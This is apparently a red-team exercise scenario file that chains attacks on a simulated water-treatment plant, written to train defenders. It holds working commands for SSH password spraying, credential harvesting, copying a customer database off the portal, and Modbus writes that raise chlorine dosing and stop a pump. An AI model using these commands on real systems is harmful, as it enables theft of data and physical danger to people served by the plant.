# The red team's timeline. Everything after the spraying is chained on it:
# a team that stops the spraying stops the whole intrusion, and a team that
# misses it can still cut the chain at every later step.
#
# The attacker only reaches the DMZ. Attacks on the PLC run through the HMI,
# so their target is the HMI (a target must share a network with the
# attacker); the PLC's own log shows the writes.

attack "portal-password-spray" {
  title     = "Password spraying against the portal's SSH"
  technique = ["T1110.003"]
  at        = "10m"
  from      = attacker.red
  target    = host.portal
  run = [
    "hydra", "-I", "-f", "-u", "-t", "8",
    "-L", "/usr/share/cordillera/users.txt",
    "-P", "/usr/share/cordillera/weak-passwords.txt",
    "ssh://${host.portal.address}",
  ]
  timeout = "12m"
  success {
    output_matches = "login: facturacion\\s+password: \\S+"
  }
}

attack "shared-folder-credential-harvest" {
  title     = "Integrator's HMI password found in the portal's shared folder"
  technique = ["T1552.001", "T1083"]
  after     = attack.portal-password-spray
  when      = "succeeded"
  delay     = "2m"
  from      = attacker.red
  target    = host.portal
  run = [
    "sshpass", "-p", weak_secret("portal-facturacion"), "ssh", "facturacion@${host.portal.address}",
    "grep -rIn -e sshpass -e clave -e password /srv/compartido 2>/dev/null",
  ]
  timeout = "1m"
  success {
    output_matches = secret("hmi-integrador")
  }
}

attack "customer-data-theft" {
  title       = "Customer database copied off the portal"
  description = "Leverage for the extortion: the crew copies the billing export over SSH."
  technique   = ["T1005", "T1048.002"]
  after       = attack.portal-password-spray
  when        = "succeeded"
  delay       = "6m"
  from        = attacker.red
  target      = host.portal
  run = ["bash", "-c", <<-EOT
    sshpass -p '${weak_secret("portal-facturacion")}' \
      scp facturacion@${host.portal.address}:/srv/facturacion/clientes.csv /tmp/clientes-${run.id}.csv || exit 1
    echo "registros: $(wc -l < /tmp/clientes-${run.id}.csv)"
    head -n 3 /tmp/clientes-${run.id}.csv
  EOT
  ]
  cleanup = ["rm", "-f", "/tmp/clientes-${run.id}.csv"]
  timeout = "2m"
  success {
    output_matches = "(?s)registros: [0-9]{2,}.*numero_cliente;"
  }
}

attack "hmi-remote-access" {
  title     = "Login to the engineering workstation with the integrator's account"
  technique = ["T1133", "T1078"]
  after     = attack.shared-folder-credential-harvest
  when      = "succeeded"
  delay     = "5m"
  from      = attacker.red
  target    = host.hmi
  run = [
    "sshpass", "-p", secret("hmi-integrador"), "ssh", "integrador@${host.hmi.addresses.dmz}",
    "id; hostname; ip -brief -4 address",
  ]
  timeout = "1m"
  success {
    output_matches = "uid=[0-9]+\\(integrador\\)"
  }
}

attack "chlorine-setpoint-tampering" {
  title       = "Chlorine dosing setpoint raised from 1.2 to 9.5 mg/L"
  description = "Living off the land: the workstation's own mbpoll writes holding register 3 of the PLC and reads it back."
  technique   = ["T0855", "T0836"]
  after       = attack.hmi-remote-access
  when        = "succeeded"
  delay       = "4m"
  from        = attacker.red
  target      = host.hmi
  run = [
    "sshpass", "-p", secret("hmi-integrador"), "ssh", "integrador@${host.hmi.addresses.dmz}",
    join(" ", [
      "mbpoll -m tcp -a 1 -0 -t 4 -r 3 -o 2 ${host.plc.address} 95 &&",
      "mbpoll -m tcp -a 1 -0 -t 4 -r 3 -c 1 -1 -o 2 ${host.plc.address}",
    ]),
  ]
  timeout = "1m"
  success {
    output_matches = "(?s)Written 1 references.*\\[3\\]:\\s+95"
    # Read back from the plant side, after the attack.
    probe {
      command        = ["mbpoll", "-m", "tcp", "-a", "1", "-0", "-t", "4", "-r", "3", "-c", "1", "-1", "-o", "2", host.plc.address]
      output_matches = "\\[3\\]:\\s+95"
    }
  }
}

attack "pump-stop-through-tunnel" {
  title       = "Pump P1 stopped through an SSH tunnel to the PLC"
  description = "The attacker forwards a local port through the workstation to the PLC's Modbus port and clears coil 0 with its own mbpoll."
  technique   = ["T1572", "T0855", "T0831"]
  after       = attack.hmi-remote-access
  when        = "succeeded"
  delay       = "12m"
  from        = attacker.red
  target      = host.hmi
  run = ["bash", "-c", <<-EOT
    sshpass -p '${secret("hmi-integrador")}' ssh -N -o ControlMaster=yes -o ControlPath=/tmp/red-${run.id}.ctl \
      -o ExitOnForwardFailure=yes -L 127.0.0.1:15020:${host.plc.address}:502 \
      integrador@${host.hmi.addresses.dmz} </dev/null >/dev/null 2>&1 &
    for i in $(seq 20); do ssh -S /tmp/red-${run.id}.ctl -O check tunnel 2>/dev/null && break; sleep 0.5; done
    mbpoll -m tcp -a 1 -0 -t 0 -r 0 -o 2 -p 15020 127.0.0.1 0 &&
      mbpoll -m tcp -a 1 -0 -t 0 -r 0 -c 3 -1 -o 2 -p 15020 127.0.0.1
  EOT
  ]
  cleanup = ["ssh", "-S", "/tmp/red-${run.id}.ctl", "-O", "exit", "tunnel"]
  timeout = "1m"
  success {
    output_matches = "(?s)Written 1 references.*\\[0\\]:\\s+0"
    probe {
      command        = ["mbpoll", "-m", "tcp", "-a", "1", "-0", "-t", "0", "-r", "0", "-c", "1", "-1", "-o", "2", host.plc.address]
      output_matches = "\\[0\\]:\\s+0"
    }
  }
}
